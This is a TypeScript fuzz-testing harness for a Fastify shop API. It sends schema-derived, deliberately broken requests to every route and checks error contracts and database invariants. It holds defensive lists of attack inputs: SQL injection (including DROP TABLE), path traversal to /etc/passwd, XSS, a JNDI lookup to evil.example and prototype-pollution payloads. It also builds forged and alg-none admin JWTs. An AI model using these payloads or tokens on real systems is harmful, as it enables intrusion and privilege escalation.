// The hostile-input harness (src/hostile/*.test.ts): every route of the real app, as the app itself
// lists them, driven through app.inject with requests generated from the route's own schema and then
// broken on purpose: wrong types, missing and extra fields, huge and unicode strings, injection
// strings, prototype-pollution keys, bad JSON, wrong content types, oversized bodies, bad path
// params and query strings, and every kind of bearer token (none, valid, forged, expired, garbage).
// Known-good values (real product uuids, order ids, tokens) come from a pool per property name, so
// generated requests also reach the services, not only the validator.
import { randomUUID } from 'node:crypto';
import { expect } from '@jest/globals';
import { asc, eq, sql } from 'drizzle-orm';
import fc from 'fast-check';
import type { RouteOptions } from 'fastify';
import { SignJWT } from 'jose';
import { Compile, type Validator } from 'typebox/compile';
import type { App } from '../app.ts';
import { orderLines, orders, orderStoreParts, products, refunds, type OrderLineRow, type OrderRow } from '../db/schema.ts';
import { createSessionJwt, SESSION_ALG, SESSION_AUDIENCE, SESSION_ISSUER } from '../lib/jwt.ts';
import { delivers, effectiveLineCents, orderMoney } from '../services/ops/partMoney.ts';
import { buildTestApp, type TestAppOptions } from './testApp.ts';

/** One method of one registered route. */
export interface RouteInfo {
  method: string;
  url: string;
  /** `GET /open/store/:id` */
  key: string;
  options: RouteOptions;
}

/** The route groups of the suite (one test file each, so jest runs them in parallel). */
export const ROUTE_GROUPS = ['catalogue', 'auth', 'user', 'fees', 'orders', 'notifications', 'admin', 'ops', 'misc'] as const;
export type RouteGroup = (typeof ROUTE_GROUPS)[number];

/** Which group fuzzes a route. A route that fits none fails the suite (hostile/routes.test.ts) rather than going unfuzzed. */
export function groupOf(route: Pick<RouteInfo, 'method' | 'url'>): RouteGroup | undefined {
  const { url } = route;
  if (url.startsWith('/open/fees/') || url.startsWith('/pricing/') || url === '/delivery-fees') return 'fees';
  if (url === '/open/store-rules' || url.startsWith('/delivery/')) return 'fees';
  if (url.startsWith('/open/')) return 'catalogue';
  if (url.startsWith('/auth/')) return 'auth';
  if (url.startsWith('/user/') || url.startsWith('/api/user/') || url.startsWith('/favorites')) return 'user';
  if (url === '/orders/tracking' || url.startsWith('/notifications/')) return 'notifications';
  if (url.startsWith('/payments/') || url.startsWith('/orders/')) return 'orders';
  if (url.startsWith('/admin/')) return 'admin';
  if (url.startsWith('/ops/')) return 'ops';
  if (
    url === '/health' ||
    url === '/vitals' ||
    url.startsWith('/images/') ||
    url.startsWith('/dev/') ||
    url.startsWith('/docs') ||
    url === '*'
  )
    return 'misc';
  return undefined;
}

/** The app's routes, one entry per method. HEAD twins of GET routes are left out: GET requests are sometimes sent as HEAD. */
export function routeList(collected: RouteOptions[]): RouteInfo[] {
  const seen = new Map<string, RouteInfo>();
  for (const options of collected) {
    const methods = Array.isArray(options.method) ? options.method : [options.method];
    for (const method of methods) {
      const key = `${method} ${options.url}`;
      if (!seen.has(key)) seen.set(key, { method, url: options.url, key, options });
    }
  }
  const routes = [...seen.values()];
  return routes.filter((r) => !(r.method === 'HEAD' && seen.has(`GET ${r.url}`)));
}

/** The test app with every route it registers. */
export async function buildAppWithRoutes(options: TestAppOptions = {}): Promise<{ app: App; routes: RouteInfo[] }> {
  const collected: RouteOptions[] = [];
  const app = await buildTestApp({ ...options, onRoute: (route) => collected.push(route) });
  return { app, routes: routeList(collected) };
}

// ---------------------------------------------------------------- hostile values

/** Strings that have broken web apps: SQL and NoSQL injection, traversal, template and log injection, odd unicode. */
export const INJECTION_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "1'); SELECT pg_sleep(10); --",
  '" OR ""="',
  "\\'; --",
  '%27%20OR%201%3D1',
  '$where',
  '{"$gt": ""}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd\u0000.svg',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '\r\nSet-Cookie: a=b',
  '\u0000',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '0x1F',
  '9'.repeat(40),
  ' ',
  '',
  '\t\n',
  '\uD800',
  '\uDFFF\uD800',
  '\uFEFF',
  '\u202Egnp.exe',
  'ǅǈǋ',
  'Ω≈ç√∫˜µ≤≥÷',
  '😀👩‍👩‍👧‍👦🇺🇸',
  'ｓｅｌｅｃｔ',
  'ß'.repeat(300),
  '%',
  '%%',
  '%E0%A4%A',
  'a'.repeat(65),
  'x'.repeat(5_000),
];

/** A string of many characters, cheap to build: the size is what is hostile. */
const hugeString = fc.integer({ min: 9_000, max: 120_000 }).map((n) => 'x'.repeat(n));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...INJECTION_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: hugeString },
);

const oddNumbers = fc.constantFrom(-1, 0, 0.5, -0, 1e21, 2 ** 31, -(2 ** 31) - 1, Number.MAX_SAFE_INTEGER, 2 ** 53 + 1, 1e-7, 0.1 + 0.2);

/** Any JSON value of the wrong kind for most fields. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: oddNumbers },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
);

/** Keys an attacker adds to an object. */
const EXTRA_KEYS = ['__proto__', 'constructor', 'prototype', 'isAdmin', 'role', 'userId', 'price', 'total', 'status', 'extra'];

// ---------------------------------------------------------------- values from a route's schema

/**
 * Known-good values by property (or path parameter) name, or a whole body or query by
 * `'POST /orders/create body'` / `'GET /x query'`; read when a value is generated, so a pool may grow during the run.
 */
export type Pool = Record<string, () => readonly unknown[]>;

type JsonSchema = {
  type?: string | string[];
  anyOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  patternProperties?: Record<string, JsonSchema>;
  default?: unknown;
};

function fromPool(pool: Pool, name: string, otherwise: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const values = pool[name];
  if (!values) return otherwise;
  const pooled = fc.nat().chain((i) => {
    const now = values();
    return now.length > 0 ? fc.constant(now[i % now.length]) : otherwise;
  });
  return fc.oneof({ weight: 3, arbitrary: pooled }, { weight: 1, arbitrary: otherwise });
}

/** Values that satisfy `schema` (mostly), preferring pooled values for a property called `name`. */
export function schemaValue(schema: JsonSchema | undefined, name: string, pool: Pool): fc.Arbitrary<unknown> {
  return fromPool(pool, name, bareSchemaValue(schema, name, pool));
}

function bareSchemaValue(schema: JsonSchema | undefined, name: string, pool: Pool): fc.Arbitrary<unknown> {
  if (!schema) return fc.jsonValue({ maxDepth: 2 });
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((s) => schemaValue(s, name, pool)));
  if ('const' in schema) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  switch (Array.isArray(schema.type) ? schema.type[0] : schema.type) {
    case 'string': {
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'date-time')
        return fc.date({ noInvalidDate: true, min: new Date(0), max: new Date(4e12) }).map((d) => d.toISOString());
      return fc.string({
        minLength: schema.minLength ?? 0,
        maxLength: Math.max(schema.minLength ?? 0, Math.min(schema.maxLength ?? 24, 24)),
      });
    }
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000, max: schema.maximum ?? 1_000 });
    case 'number':
      return fc.double({
        min: schema.minimum ?? -1_000,
        max: Math.min(schema.maximum ?? 10_000, 10_000),
        noNaN: true,
        noDefaultInfinity: true,
      });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(schemaValue(schema.items, name, pool), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 3, 3)),
      });
    case 'object': {
      if (schema.properties) {
        const model = Object.fromEntries(Object.entries(schema.properties).map(([key, s]) => [key, schemaValue(s, key, pool)]));
        return fc.record(model, { requiredKeys: (schema.required ?? []).filter((k) => k in model) });
      }
      return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 });
    }
    default:
      // Type.Unknown(): anything.
      return fc.jsonValue({ maxDepth: 2 });
  }
}

// ---------------------------------------------------------------- breaking a valid value

type Path = (string | number)[];

function pathsOf(value: unknown, depth = 0, prefix: Path = []): Path[] {
  const out: Path[] = [prefix];
  if (depth >= 4 || value === null || typeof value !== 'object') return out;
  const entries: [string | number, unknown][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  for (const [k, v] of entries) out.push(...pathsOf(v, depth + 1, [...prefix, k]));
  return out;
}

/** Sets `key` as an own, enumerable property even when it is `__proto__`, so JSON.stringify sends it. */
function setOwn(target: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

interface Mutation {
  kind: 'replace' | 'delete' | 'add';
  at: number;
  key: string;
  value: unknown;
}

function applyMutation(original: unknown, m: Mutation): unknown {
  const value = structuredClone(original);
  const paths = pathsOf(value);
  const path = paths[m.at % paths.length]!;
  if (path.length === 0) {
    if (m.kind === 'add' && value !== null && typeof value === 'object' && !Array.isArray(value)) {
      setOwn(value as Record<string, unknown>, m.key, m.value);
      return value;
    }
    return m.kind === 'delete' ? undefined : m.value;
  }
  let parent = value as Record<string | number, unknown>;
  for (const step of path.slice(0, -1)) parent = parent[step] as Record<string | number, unknown>;
  const last = path[path.length - 1]!;
  if (m.kind === 'delete') {
    if (Array.isArray(parent)) parent.splice(last as number, 1);
    else delete parent[last];
  } else if (m.kind === 'add') {
    const target = parent[last];
    if (target !== null && typeof target === 'object' && !Array.isArray(target)) setOwn(target as Record<string, unknown>, m.key, m.value);
    else parent[last] = m.value;
  } else {
    parent[last] = m.value;
  }
  return value;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom('replace', 'replace', 'delete', 'add'),
  at: fc.nat(),
  key: fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ maxLength: 12 })),
  value: hostileValue,
});

/** A valid value, or one broken in one place (two, sometimes). */
export function hostile(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 2, arbitrary: valid },
    { weight: 3, arbitrary: fc.tuple(valid, mutation).map(([v, m]) => applyMutation(v, m)) },
    { weight: 1, arbitrary: fc.tuple(valid, mutation, mutation).map(([v, a, b]) => applyMutation(applyMutation(v, a), b)) },
  );
}

// ---------------------------------------------------------------- requests

export interface HostileRequest {
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string;
  remoteAddress: string;
  /** The statuses this request may get (an oversized body: 413, or refused before the body is read). */
  expectStatus?: number[];
  /** What kind of hostility, for the failure message. */
  label: string;
}

/** Bearer tokens the fuzzer presents: real ones from the group's setup and the attacker's. */
export interface Tokens {
  customer?: () => string;
  admin?: () => string;
  /** Whole Authorization values that other routes take (e.g. the PayPal stand-in's own tokens). */
  others?: () => readonly string[];
  forged: string;
  expired: string;
  algNone: string;
  otherAudience: string;
}

/** Attacker tokens for an app: signed with another key, expired, `alg: none`, and ours for another audience. */
export async function attackerTokens(app: App, subject: string = randomUUID()): Promise<Tokens> {
  const claims = { sub: subject, role: 'ADMIN' as const, authMethod: 'email' as const };
  const forged = await createSessionJwt('not-the-secret-'.repeat(4), 3600).sign(claims);
  const expired = await createSessionJwt(app.config.jwtSecret, app.config.jwtTtlSeconds).sign(claims, {
    issuedAtMs: Date.now() - 7 * 24 * 3600_000 - app.config.jwtTtlSeconds * 1000,
  });
  const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
  const now = Math.floor(Date.now() / 1000);
  const algNone = `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: subject, role: 'ADMIN', iss: SESSION_ISSUER, aud: SESSION_AUDIENCE, iat: now, exp: now + 3600 })}.`;
  const otherAudience = await new SignJWT({ role: 'ADMIN' })
    .setProtectedHeader({ alg: SESSION_ALG })
    .setSubject(subject)
    .setIssuer(SESSION_ISSUER)
    .setAudience(`${SESSION_AUDIENCE}:admin-stream`)
    .setIssuedAt(now)
    .setExpirationTime(now + 60)
    .sign(new TextEncoder().encode(app.config.jwtSecret));
  return { forged, expired, algNone, otherAudience };
}

function authorization(tokens: Tokens): fc.Arbitrary<string | undefined> {
  const real = (get: (() => string) | undefined) => (get ? fc.constant(null).map(() => `Bearer ${get()}`) : fc.constant(undefined));
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(undefined) },
    { weight: 5, arbitrary: real(tokens.customer) },
    // Groups without an admin (or other tokens) send their customer's there, so most requests get past sign-in.
    { weight: 3, arbitrary: real(tokens.admin ?? tokens.customer) },
    {
      weight: tokens.others ? 5 : 1,
      arbitrary: fc.nat().map((i) => {
        const values = tokens.others?.() ?? [];
        if (values.length > 0) return values[i % values.length];
        return tokens.customer ? `Bearer ${tokens.customer()}` : undefined;
      }),
    },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        `Bearer ${tokens.forged}`,
        `Bearer ${tokens.expired}`,
        `Bearer ${tokens.algNone}`,
        `Bearer ${tokens.otherAudience}`,
        'Bearer ',
        'Bearer',
        'bearer null',
        'Basic Z3JvY2VyLWRldi1jbGllbnQ6Z3JvY2VyLWRldi1zZWNyZXQ=',
        `Bearer ${'A'.repeat(9_000)}`,
        'Bearer a.b.c',
        "Bearer ' OR '1'='1",
      ),
    },
  );
}

/** Header values must be visible ASCII (a client library refuses anything else). */
const headerString = fc.oneof(
  fc.constantFrom(
    "' OR '1'='1",
    '../../etc/passwd',
    '__proto__',
    '-1',
    '2147483648',
    '999999999999999',
    '99999999999999999999',
    'x'.repeat(300),
    '',
    ' ',
  ),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }).map((s) => s.replace(/[^\x21-\x7e]/g, '')),
);

/** Percent-encodes every byte that is not unreserved; never throws (lone surrogates become U+FFFD). */
export function pct(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    // A lone surrogate: encode its UTF-8 bytes one by one.
  }
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** Path segments sent as they are, not encoded: traversal, broken encodings, NUL, over-long. */
const RAW_SEGMENTS = [
  '..',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e',
  '%00',
  '%E0%A4%A',
  '%',
  '%zz',
  'a%2Fb',
  ';',
  '*',
  'x'.repeat(150),
  '%F0%9F%98%80',
  '.',
  '~',
];

function segment(value: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: value.map((v) => pct(typeof v === 'string' ? v : (JSON.stringify(v) ?? ''))) },
    { weight: 2, arbitrary: hostileString.map((s) => pct(s.slice(0, 200))) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_SEGMENTS) },
  );
}

function queryValue(v: unknown): string[] {
  if (v === undefined) return [];
  if (Array.isArray(v)) return v.flatMap((x) => queryValue(x));
  if (v !== null && typeof v === 'object') return [JSON.stringify(v)];
  return [String(v)];
}

function queryString(value: unknown): string {
  if (value === undefined) return '';
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return `junk=${pct(JSON.stringify(value) ?? '')}`;
  return Object.entries(value)
    .flatMap(([k, v]) => queryValue(v).map((x) => `${pct(k)}=${pct(x)}`))
    .join('&');
}

const QUERY_JUNK = [
  '__proto__[polluted]=1',
  'constructor[prototype][polluted]=1',
  '__proto__.polluted=1',
  'a=%E0%A4%A',
  '=',
  '&&&',
  'a[]=1&a[]=2',
  '%zz=1',
  `big=${'y'.repeat(9_000)}`,
];

/** An oversized body is never read: 413, unless the request was refused before (bad or too long URL, no token, no such route, rate limit). */
const REFUSED_BEFORE_THE_BODY = [413, 400, 401, 403, 404, 414, 429];

/** The oversized body: one string just over the 1 MiB limit, built once. */
const OVERSIZED = `{"x":"${'a'.repeat(1024 * 1024 + 64)}"}`;

const BAD_JSON = [
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '[1,2',
  'nul',
  'NaN',
  '{"a":1}{"b":2}',
  '\u0000',
  '{"a":"\\uZZZZ"}',
  '"unterminated',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
];

const WRONG_CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/jsonx',
  '*/*',
  'application/json, text/plain',
];

interface RequestContext {
  pool: Pool;
  tokens: Tokens;
  /** Other tokens for some routes (e.g. the PayPal stand-in's Orders API takes its own bearer tokens). */
  tokensFor?: (route: RouteInfo) => Tokens | undefined;
  /** Sees every answer, e.g. to pool the ids a create call returned so later requests use them. */
  harvest?: (route: RouteInfo, request: HostileRequest, body: string) => void;
  /** 256 client addresses: per-IP rate limits (e.g. sign-ups) are reached sometimes, not every time. */
  addresses?: number;
}

const METHODS_WITH_BODY = new Set(['POST', 'PUT', 'PATCH', 'DELETE']);

/** Requests for one route, from its schema: mostly valid-looking, many broken in one way or another. */
export function requestsFor(route: RouteInfo, ctx: RequestContext): fc.Arbitrary<HostileRequest> {
  const schema = (route.options.schema ?? {}) as Record<string, JsonSchema | undefined>;
  const names = [...route.url.matchAll(/:([A-Za-z0-9_]+)/g)].map((m) => m[1]!);
  const params = fc.tuple(...names.map((n) => segment(schemaValue(schema.params?.properties?.[n], n, ctx.pool))));
  const wildcard = route.url.endsWith('*')
    ? fc.oneof(
        fc.constantFrom(
          'index.html',
          'swagger-ui.css',
          '../package.json',
          '..%2f..%2fpackage.json',
          '%2e%2e/%2e%2e/etc/passwd',
          'static/../../x',
        ),
        segment(hostileString),
      )
    : fc.constant('');
  const path = fc.tuple(params, wildcard).map(([values, rest]) => {
    let i = 0;
    const filled = route.url.replace(/:([A-Za-z0-9_]+)/g, () => values[i++]!);
    const full = filled.endsWith('*') ? filled.slice(0, -1) + rest : filled;
    return full.startsWith('/') ? full : `/${full}`;
  });

  const query = fc.oneof(
    { weight: 6, arbitrary: hostile(schemaValue(schema.querystring, `${route.key} query`, ctx.pool)).map(queryString) },
    { weight: 1, arbitrary: fc.constantFrom(...QUERY_JUNK) },
    { weight: 1, arbitrary: fc.constant('') },
  );

  const hasBody = METHODS_WITH_BODY.has(route.method);
  const json = (v: unknown) => ({ payload: JSON.stringify(v) ?? 'null', contentType: 'application/json', label: 'json' });
  const body: fc.Arbitrary<{ payload?: string; contentType?: string; label: string; expectStatus?: number[] }> = hasBody
    ? fc.oneof(
        { weight: 30, arbitrary: hostile(schemaValue(schema.body, `${route.key} body`, ctx.pool)).map(json) },
        {
          weight: 2,
          arbitrary: fc.constantFrom(...BAD_JSON).map((payload) => ({ payload, contentType: 'application/json', label: 'bad json' })),
        },
        {
          weight: 2,
          arbitrary: fc
            .tuple(fc.constantFrom(...WRONG_CONTENT_TYPES), schemaValue(schema.body, `${route.key} body`, ctx.pool))
            .map(([contentType, v]) => ({
              payload: contentType.includes('urlencoded') ? queryString(v) : (JSON.stringify(v) ?? ''),
              contentType,
              label: 'wrong content type',
            })),
        },
        {
          weight: 2,
          arbitrary: fc.constantFrom({ label: 'no body' }, { payload: '', contentType: 'application/json', label: 'empty json' }),
        },
        {
          weight: 1,
          arbitrary: fc.constant({
            payload: OVERSIZED,
            contentType: 'application/json',
            label: 'oversized',
            expectStatus: REFUSED_BEFORE_THE_BODY,
          }),
        },
      )
    : fc.oneof(
        { weight: 20, arbitrary: fc.constant({ label: 'no body' }) },
        { weight: 1, arbitrary: fc.constant({ payload: '{"a":1}', contentType: 'application/json', label: 'body on a read' }) },
      );

  const origins = ctx.pool.origin ? fromPool(ctx.pool, 'origin', headerString) : headerString;
  const extraHeaders = fc.record(
    {
      'idempotency-key': headerString,
      'last-event-id': headerString,
      'if-none-match': headerString,
      'x-forwarded-for': headerString,
      origin: origins,
      'access-control-request-method': fc.oneof(fc.constantFrom('GET', 'POST', 'DELETE'), headerString),
    },
    { requiredKeys: [] },
  );
  const address = fc.nat({ max: (ctx.addresses ?? 256) - 1 }).map((n) => `10.77.${n >> 8}.${n & 255}`);
  const method = route.method === 'GET' ? fc.constantFrom('GET', 'GET', 'GET', 'HEAD') : fc.constant(route.method);

  return fc
    .record({
      method,
      path,
      query,
      body,
      auth: authorization(ctx.tokensFor?.(route) ?? ctx.tokens),
      extra: extraHeaders,
      remoteAddress: address,
    })
    .map(({ method: m, path: p, query: q, body: b, auth, extra, remoteAddress }) => {
      const headers: Record<string, string> = { ...(extra as Record<string, string>) };
      if (auth !== undefined) headers.authorization = auth;
      if (b.contentType) headers['content-type'] = b.contentType;
      return {
        method: m,
        url: q ? `${p}?${q}` : p,
        headers,
        ...(b.payload === undefined ? {} : { payload: b.payload }),
        remoteAddress,
        ...(b.expectStatus ? { expectStatus: b.expectStatus } : {}),
        label: b.label,
      };
    });
}

// ---------------------------------------------------------------- checking answers

interface Answer {
  statusCode: number;
  headers: Record<string, string | string[] | number | undefined>;
  body: string;
}

/** The schema the route declares for `status` (exact, else `4xx`). */
function declaredResponse(route: RouteInfo, status: number): unknown {
  const response = (route.options.schema as { response?: Record<string, unknown> } | undefined)?.response ?? {};
  return response[String(status)] ?? response[`${String(status)[0]}xx`];
}

/** Compiled once per schema: checking every 4xx answer must stay cheap. */
const validators = new WeakMap<object, Validator>();
function matches(schema: object, value: unknown): boolean {
  let validator = validators.get(schema);
  if (!validator) {
    validator = Compile(schema as Parameters<typeof Compile>[0]) as unknown as Validator;
    validators.set(schema, validator);
  }
  return validator.Check(value);
}

/** Why this answer breaks the contract, or null: no 5xx; a 4xx is JSON in the route's declared error shape with a message. */
export function problemWith(route: RouteInfo, request: HostileRequest, answer: Answer): string | null {
  const { statusCode } = answer;
  if (statusCode >= 500) return `answered ${statusCode}`;
  if (request.expectStatus !== undefined && !request.expectStatus.includes(statusCode))
    return `answered ${statusCode}, expected one of ${request.expectStatus.join(', ')}`;
  if (statusCode < 400 || request.method === 'HEAD') return null;
  const contentType = String(answer.headers['content-type'] ?? '');
  const declared = declaredResponse(route, statusCode) as JsonSchema | undefined;
  // Only the PayPal SDK stand-in declares a non-JSON error (a script that throws, as PayPal's does).
  if (declared?.type === 'string')
    return contentType.startsWith('application/javascript') ? null : `a ${statusCode} script answer as ${contentType}`;
  if (!contentType.startsWith('application/json')) return `a ${statusCode} answer as ${contentType || 'no content type'}`;
  let body: unknown;
  try {
    body = JSON.parse(answer.body);
  } catch {
    return `a ${statusCode} answer that is not JSON`;
  }
  if (declared && !matches(declared, body)) return `a ${statusCode} answer outside the route's declared schema`;
  const record = body as { message?: unknown; error?: unknown; error_description?: unknown };
  const message = record.message ?? record.error_description;
  if (typeof message !== 'string' || message.trim() === '') return `a ${statusCode} answer without a message`;
  if (record.error !== undefined && typeof record.error === 'object') {
    const inner = record.error as { message?: unknown; code?: unknown };
    if (typeof inner.message !== 'string' || inner.message.trim() === '' || typeof inner.code !== 'string' || inner.code === '') {
      return `a ${statusCode} error without error.code and error.message`;
    }
  }
  return null;
}

/** How many requests hit each route and what they got, printed after a group runs. */
export class Tally {
  readonly byRoute = new Map<string, Map<number, number>>();
  total = 0;

  add(route: RouteInfo, status: number) {
    this.total += 1;
    const statuses = this.byRoute.get(route.key) ?? new Map<number, number>();
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
    this.byRoute.set(route.key, statuses);
  }

  count(route: RouteInfo): number {
    return [...(this.byRoute.get(route.key)?.values() ?? [])].reduce((a, b) => a + b, 0);
  }

  report(group: string, ms: number): string {
    const lines = [...this.byRoute.entries()].map(([key, statuses]) => {
      const counts = [...statuses.entries()].sort(([a], [b]) => a - b).map(([s, n]) => `${s}×${n}`);
      return `  ${key.padEnd(52)} ${counts.join(' ')}`;
    });
    return `hostile ${group}: ${this.total} requests in ${(ms / 1000).toFixed(1)} s\n${lines.join('\n')}\n`;
  }
}

/** For routes that stream (SSE): how long to hold the connection before hanging up; a hijacked reply never ends by itself. */
const STREAM_HANGUP_MS = 10;

/**
 * Drives `routes` with `runs` generated requests and fails on the first answer that breaks the
 * contract (fast-check then shrinks it to the smallest such request). Returns the tally.
 */
export async function fuzzRoutes(app: App, routes: RouteInfo[], ctx: RequestContext & { runs: number; seed?: number }): Promise<Tally> {
  const tally = new Tally();
  const arbitraries = new Map(routes.map((r) => [r.key, requestsFor(r, ctx)]));
  const pick = fc.constantFrom(...routes).chain((route) => arbitraries.get(route.key)!.map((request) => ({ route, request })));
  const outcome = await fc.check(
    fc.asyncProperty(pick, async ({ route, request }) => {
      const streams =
        route.options.schema &&
        JSON.stringify((route.options.schema as { response?: unknown }).response ?? {}).includes('text/event-stream');
      let answer: Answer;
      try {
        const res = await app.inject({
          method: request.method as 'GET',
          url: request.url,
          headers: request.headers,
          ...(request.payload === undefined ? {} : { payload: request.payload }),
          remoteAddress: request.remoteAddress,
          ...(streams ? { signal: AbortSignal.timeout(STREAM_HANGUP_MS) } : {}),
        });
        answer = { statusCode: res.statusCode, headers: res.headers, body: res.body };
      } catch (err) {
        // The stream opened and kept going until we hung up: a 200 that never ends.
        if (streams && (err as Error).name === 'AbortError') answer = { statusCode: 200, headers: {}, body: '' };
        else throw err;
      }
      tally.add(route, answer.statusCode);
      if (answer.statusCode < 300 && ctx.harvest) ctx.harvest(route, request, answer.body);
      const problem = problemWith(route, request, answer);
      if (problem) {
        throw new Error(`${request.method} ${request.url.slice(0, 300)} (${request.label}) ${problem}: ${answer.body.slice(0, 300)}`);
      }
    }),
    // No shrinking: the request is in the message, and shrinking huge bodies costs minutes.
    { numRuns: ctx.runs, ...(ctx.seed === undefined ? {} : { seed: ctx.seed }), endOnFailure: true },
  );
  if (outcome.failed) {
    const cause = outcome.errorInstance instanceof Error ? outcome.errorInstance.message : String(outcome.errorInstance);
    throw new Error(`after ${outcome.numRuns} requests (replay: seed ${outcome.seed}, path "${outcome.counterexamplePath}"): ${cause}`);
  }
  return tally;
}

// ---------------------------------------------------------------- invariants

/**
 * What must hold after any run: stock never negative, and each audited product's count is where its
 * last stock_changes row left it (no move went unaudited); every order's money adds up in integer cents;
 * refunds never exceed a capture, and a cancelled order's captured money is all being refunded; no prototype polluted.
 */
export async function assertInvariants(app: App): Promise<void> {
  const negative = await app.db.select({ uuid: products.uuid, stock: products.stockQuantity }).from(products);
  expect(negative.filter((p) => p.stock < 0)).toEqual([]);
  // Written out in SQL: inside a subquery an unqualified "id" would be the audit row's own.
  const last = sql<
    number | null
  >`(select s.new_quantity from stock_changes s where s.product_id = ${products}.id order by s.id desc limit 1)`;
  const audited = await app.db.select({ uuid: products.uuid, stock: products.stockQuantity, last }).from(products);
  expect(audited.filter((r) => r.last !== null && Number(r.last) !== r.stock)).toEqual([]);

  const all = await app.db.select().from(orders).orderBy(asc(orders.seq));
  for (const order of all) {
    const lines = await app.db.select().from(orderLines).where(eq(orderLines.orderId, order.id));
    // A line a store replaced or could not supply counts as what it came to (the order was re-priced).
    const sumOfLines = lines.reduce((sum, l) => sum + effectiveLineCents(l), 0);
    const fees = order.serviceFeeCents + order.deliveryFeeCents + order.processingFeeCents;
    expect({ order: order.id, lines: lines.map((l) => l.unitPriceCents * l.quantity) }).toEqual({
      order: order.id,
      lines: lines.map((l) => l.lineTotalCents),
    });
    expect({ order: order.id, subtotal: order.subtotalCents, total: order.totalCents }).toEqual({
      order: order.id,
      subtotal: sumOfLines,
      total: sumOfLines + fees + order.taxCents,
    });
    for (const cents of [
      order.subtotalCents,
      order.taxCents,
      order.serviceFeeCents,
      order.deliveryFeeCents,
      order.processingFeeCents,
      order.totalCents,
    ]) {
      expect(Number.isInteger(cents) && cents >= 0).toBe(true);
    }
    const refunded = (await app.db.select().from(refunds).where(eq(refunds.orderId, order.id))).reduce((sum, r) => sum + r.amountCents, 0);
    // Money PayPal took (a later re-read may say REFUNDED); a declined or failed capture took none.
    const captured =
      order.paypalCaptureId && !['DECLINED', 'FAILED'].includes(order.paypalCaptureStatus ?? '') ? (order.paypalCapturedCents ?? 0) : 0;
    expect({ order: order.id, refundedWithinCapture: refunded <= captured }).toEqual({ order: order.id, refundedWithinCapture: true });
    if (order.status === 'CANCELLED') expect({ order: order.id, refunded }).toEqual({ order: order.id, refunded: captured });
    if (order.paymentStatus === 'PAID') await assertPartsCharged(app, order, lines, refunded);
  }

  // Prototype pollution: nothing a request sent may land on Object.prototype.
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
}

/**
 * A paid order charges only for what its stores still deliver: a part with nothing left is CANCELLED
 * and its delivery fee is gone from the order, the order's money is the checkout's calculatePricing
